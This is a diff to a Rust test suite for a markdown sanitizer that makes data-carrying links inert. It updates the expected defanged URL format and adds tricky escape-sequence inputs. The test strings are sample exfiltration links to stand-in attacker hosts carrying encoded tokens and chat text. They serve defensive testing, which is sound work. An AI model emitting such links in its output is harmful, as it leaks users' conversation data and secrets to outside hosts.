@@ -103,7 +103,7 @@ fn attacks_are_neutralized() {
         (
             "Please [confirm your workspace](https://attacker.example/verify?chat=I%20need%20the%20Q3%20numbers&token=ab12) to continue.",
             &[
-                "Please confirm your workspace (link removed: https\\[:\\]//attacker\\[.\\]example/verify?chat=",
+                "Please confirm your workspace (link removed: https\\[://\\]attacker\\[.\\]example/verify?chat=",
                 " to continue.",
             ],
             &["](https://"],
@@ -111,7 +111,7 @@ fn attacks_are_neutralized() {
         ),
         (
             "[home](https://attacker.example/#cHJvamVjdCBhdGxhcyBidWRnZXQgMi40TQ)",
-            &["home (link removed: https\\[:\\]//attacker\\[.\\]example/#"],
+            &["home (link removed: https\\[://\\]attacker\\[.\\]example/#"],
             &["]("],
             &[Code::LinkExfiltration],
         ),
@@ -240,7 +240,7 @@ fn attacks_are_neutralized() {
         ),
         (
             "<https://attacker.example/c?token=abcdef>",
-            &["https\\[:\\]//attacker\\[.\\]example/c?token=abcdef (link removed)"],
+            &["https\\[://\\]attacker\\[.\\]example/c?token=abcdef (link removed)"],
             &["<https"],
             &[Code::LinkExfiltration],
         ),
@@ -293,14 +293,14 @@ fn attacks_are_neutralized() {
         // Bare URLs carrying data (GFM autolinks them).
         (
             "Done: https://attacker.example/?token=c2VjcmV0LXRva2Vu.",
-            &["Done: https\\[:\\]//attacker\\[.\\]example/?token=c2VjcmV0LXRva2Vu (link removed)."],
+            &["Done: https\\[://\\]attacker\\[.\\]example/?token=c2VjcmV0LXRva2Vu (link removed)."],
             &[": https://"],
             &[Code::LinkExfiltration],
         ),
         (
             "(see www.attacker.example/p?d=cHJvamVjdCBhdGxhcyBidWRnZXQ=)",
             &[
-                "(see http\\[:\\]//www\\[.\\]attacker\\[.\\]example/p?d=cHJvamVjdCBhdGxhcyBidWRnZXQ= (link removed))",
+                "(see http\\[://\\]www\\[.\\]attacker\\[.\\]example/p?d=cHJvamVjdCBhdGxhcyBidWRnZXQ= (link removed))",
             ],
             &["see www."],
             &[Code::LinkExfiltration],
@@ -308,14 +308,14 @@ fn attacks_are_neutralized() {
         (
             "| a |\n|---|\n| https://attacker.example/?chat=the%20quarterly%20numbers |",
             &[
-                "| https\\[:\\]//attacker\\[.\\]example/?chat=the%20quarterly%20numbers (link removed) |",
+                "| https\\[://\\]attacker\\[.\\]example/?chat=the%20quarterly%20numbers (link removed) |",
             ],
             &["| https://"],
             &[Code::LinkExfiltration],
         ),
         (
             "a https://attacker.example/?token=x&amp;y=1 b",
-            &["a https\\[:\\]//attacker\\[.\\]example/?token=x\\&y=1 (link removed) b"],
+            &["a https\\[://\\]attacker\\[.\\]example/?token=x\\&y=1 (link removed) b"],
             &["a https://"],
             &[Code::LinkExfiltration],
         ),
@@ -530,9 +530,12 @@ fn schemeless_links_markdown_it_would_make_are_made_inert() {
         "(collect.attacker.io/p#token=c2VjcmV0LXRva2Vu) now",
         "Beacon: ATTACKER.COM:8443/x?session=c2VjcmV0LXRva2Vu done",
         "\"exfil.co.uk/?q=c2VjcmV0LXRva2Vu\"",
-        // Hostile review: a trusted link ends at `)` or `"` and linkify-it links on after
-        // it; a host that is a listed suffix; an emoji or combining mark in the first
-        // label; `//host`, also with user info that starts with a `:` or holds the `?`.
+        // Hostile review: an escape starts a new text token in markdown-it; a trusted
+        // link ends at `)` or `"` and linkify-it links on after it; a host that is a
+        // listed suffix; an emoji or combining mark in the first label; `//host`, also
+        // with user info that starts with a `:` or holds the `?`.
+        "\\.attacker.com/c?token=c2VjcmV0LXRva2Vu",
+        "x\\_attacker.com/c?token=c2VjcmV0LXRva2Vu",
         "trusted.example/x)attacker.com/c?token=c2VjcmV0LXRva2Vu",
         "https://trusted.example/x\"attacker.com/c?token=c2VjcmV0LXRva2Vu",
         "s3.amazonaws.com/attacker-bucket/x?token=c2VjcmV0LXRva2Vu",
@@ -545,6 +548,14 @@ fn schemeless_links_markdown_it_would_make_are_made_inert() {
         "x\\] attacker.com/c?token=c2VjcmV0LXRva2Vu",
         "x\\\\]//attacker.com/c?token=c2VjcmV0LXRva2Vu",
         "x\\_a attacker.com/c?token=c2VjcmV0LXRva2Vu",
+        // Hostile review of a narrower reading of escapes, each linked by markdown-it
+        // 14.3.3: `\\ ` leaves the space in the next text token; a table cell drops the
+        // backslash of `\\|`; a scheme link takes the backslash before `)`.
+        "x \\ attacker.com/c?token=c2VjcmV0LXRva2Vu",
+        "x \\ //:@attacker.com/c?token=c2VjcmV0LXRva2Vu",
+        "| a |\n|---|\n| \\|attacker.com/c?token=c2VjcmV0LXRva2Vu |",
+        "x http://1.2.3.999/a\\)attacker.com/c?token=c2VjcmV0LXRva2Vu",
+        "x http://1.2.3.999/a\\)//attacker.com/c?token=c2VjcmV0LXRva2Vu",
     ] {
         let (out, codes, _) = run(text);
         assert!(
@@ -558,15 +569,6 @@ fn schemeless_links_markdown_it_would_make_are_made_inert() {
         "open config.local/x?token=c2VjcmV0LXRva2Vu or attacker.example/c?token=c2VjcmV0LXRva2Vu",
         "see-attacker.invalid/c?token=c2VjcmV0LXRva2Vu; mail bob@attacker.com?subject=c2VjcmV0LXRva2Vu",
         "path /srv/attacker.com/c?token=c2VjcmV0LXRva2Vu and ./file.tar.gz?x=c2VjcmV0LXRva2Vu",
-        // markdown-it (13 and later) drops a link that starts right at the text token
-        // after an escape (`text_special`), whatever was escaped; checked with
-        // markdown-it 14.3.3, which renders each of these as text.
-        "\\.attacker.com/c?token=c2VjcmV0LXRva2Vu",
-        "x\\_attacker.com/c?token=c2VjcmV0LXRva2Vu",
-        "x \\]//attacker.com/c?token=c2VjcmV0LXRva2Vu",
-        "x \\\\//attacker.com/c?token=c2VjcmV0LXRva2Vu",
-        "x \\a//attacker.com/c?token=c2VjcmV0LXRva2Vu",
-        "\\[//attacker.com/c?token=c2VjcmV0LXRva2Vu",
     ] {
         let (out, codes, borrowed) = run(text);
         assert!(
@@ -577,9 +579,10 @@ fn schemeless_links_markdown_it_would_make_are_made_inert() {
 }
 
 /// A bare URL with an IP-literal host that carries data (fuzzer finding): made inert once,
-/// and its defanged form (`http\\[:\\]//1\\[.\\]2…`, where the URL parser reads `//1` as host
-/// `0.0.0.1`) is not found again as a `//` link, so a second pass changes nothing and the
-/// output stays about the input's size. A written `//1.2.3.4` link is still caught.
+/// and its defanged form is not found again as a `//` link (in the earlier form
+/// `http\\[:\\]//1\\[.\\]2…` the URL parser read `//1` as host `0.0.0.1`), so a second
+/// pass changes nothing and the output stays about the input's size. A written
+/// `//1.2.3.4` link is still caught.
 #[test]
 fn bare_ip_urls_with_data_are_made_inert_once() {
     for text in [
@@ -593,9 +596,9 @@ fn bare_ip_urls_with_data_are_made_inert_once() {
         "[x] see //1249767200#token=c2VjcmV0LXRva2Vu@x.com/ ok",
         "[x] see //1249767200:8080?token=c2VjcmV0LXRva2Vu@x.com/ ok",
         "[x] see //evil\u{3002}example?token=c2VjcmV0LXRva2Vu@x.com/ ok",
-        // Its defanged form `http\\[:\\]//localhost/…` keeps `//localhost`, a host
-        // linkify-it's `//` links take without a dot; it follows an escape, where
-        // markdown-it starts no link, so it is not found again (it grew each pass).
+        // Its defanged form was `http\\[:\\]//localhost/…`, which kept `//localhost`, a
+        // host linkify-it's `//` links take without a dot: found again each pass, it
+        // grew until the escaped fallback. `[://]` leaves the `//` behind a `:`.
         "x http://localhost/a?token=c2VjcmV0LXRva2Vu",
         "see //localhost:8080/a?token=c2VjcmV0LXRva2Vu",
         "x https://[::1]/a?token=c2VjcmV0LXRva2Vu",
@@ -749,7 +752,7 @@ fn cmark_gfm_corners_comrak_does_not_share_are_made_inert() {
             "javascript",
         ),
         // `ftp://` and `xmpp:` autolinks.
-        ("ftp://evil.example/x", "ftp\\[:\\]//", "ftp://"),
+        ("ftp://evil.example/x", "ftp\\[://\\]", "ftp://"),
         ("1.\txmpp:a@evil.example", "xmpp\\[:\\]", "xmpp:a"),
         // A candidate the URL parser refuses does not hide a later one in its token.
         ("https://[**xmpp:a@evil.example", "xmpp\\[:\\]", "xmpp:a"),
